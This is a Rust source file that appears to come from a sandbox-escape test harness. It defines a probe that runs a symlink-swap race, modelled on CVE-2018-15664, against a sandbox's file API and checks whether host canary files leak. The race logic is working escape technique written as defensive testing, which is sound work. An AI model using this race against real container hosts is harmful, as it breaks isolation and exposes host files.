//! The file API, raced by whoever owns the folders.

use std::time::{Duration, Instant};

use sloplet_client::ProcessEvent;

use crate::drill::{Drill, DrillError, settle};
use crate::part::contains;
use crate::probe::{Finding, Kind, Pending, Probe};

pub const PROBE: Probe = Probe {
    name: "file-api-race",
    ids: &[36],
    tries: "swap a folder and a symlink to the host's canary while the file API reads through it",
    why: "CVE-2018-15664: 'docker cp' resolved a path in two steps",
    needs: &[],
    kind: Kind::Drill(run),
};

fn run<'a>(drill: &'a Drill<'a>) -> Pending<'a> {
    settle(attack(drill))
}

async fn attack(drill: &Drill<'_>) -> Result<Finding, DrillError> {
    let settings = drill.settings();
    let folder = settings.canary.parent().map(|path| path.display().to_string()).unwrap_or_default();
    let name = settings.canary.file_name().map(|name| name.to_string_lossy().into_owned()).unwrap_or_default();
    // On the host, a symlink to that folder leads to the canary.
    let link = drill.canaries.folder().join("race");
    let _ = std::os::unix::fs::symlink(&folder, &link);
    let works = std::fs::read_to_string(link.join(&name)).is_ok_and(|text| text == settings.secret);
    let sandbox = drill.sandbox(|_| {}).await?;
    let base = drill.place(&sandbox, "race");
    let mut racer = sandbox.exec(drill.words(&["exchange", &base, &folder, "900"])).await?;
    if let Some(event) = racer.next().await {
        let _: ProcessEvent = event?;
    }
    let until = Instant::now() + Duration::from_millis(800);
    let (mut reads, mut found, mut inside) = (0, 0, 0);
    while Instant::now() < until {
        for path in [format!("{base}/plain/{name}"), format!("{base}/plain/canary")] {
            reads += 1;
            match drill.read(&sandbox, path.as_bytes()).await {
                Ok(text) if contains(&text, settings.secret.as_bytes()) => found += 1,
                Ok(_) => inside += 1,
                Err(_) => {}
            }
        }
    }
    drop(racer);
    sandbox.destroy().await?;
    let control = "a symlink leads to the canary on the host";
    if !works {
        return Ok(Finding::inconclusive("", "a symlink does not lead to the canary on the host either"));
    }
    if found + inside == 0 {
        return Ok(Finding::inconclusive(control, format!("{reads} reads during the race, and none of any file")));
    }
    let detail = format!("{reads} reads during the race: {found} of the host's canary, {inside} of files inside");
    Ok(Finding::judge(found == 0, control, detail))
}
